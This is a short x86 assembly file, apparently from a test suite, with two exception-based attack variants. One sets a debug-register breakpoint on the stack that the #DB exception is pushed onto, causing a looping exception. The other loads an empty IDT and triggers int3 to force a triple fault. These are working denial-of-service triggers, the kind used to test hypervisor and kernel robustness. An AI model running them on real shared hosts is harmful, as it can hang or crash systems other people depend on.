/* SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only */
/* Attacks by exceptions. */
#include "attack.h"

#if ATTACK_debug		/* #DB by a data breakpoint on the stack that #DB is pushed on */
prepare:
	mov	$stack_top - 8, %eax
	mov	%eax, %dr0
	mov	$0x000f0303, %eax
	mov	%eax, %dr7
	ret
attack:	push	%eax
	pop	%eax
	ret
#elif ATTACK_triple
prepare: ret
attack:	lidt	no_idt
	int3
no_idt:	.word	0
	.long	0
#else
#error "no such attack"
#endif
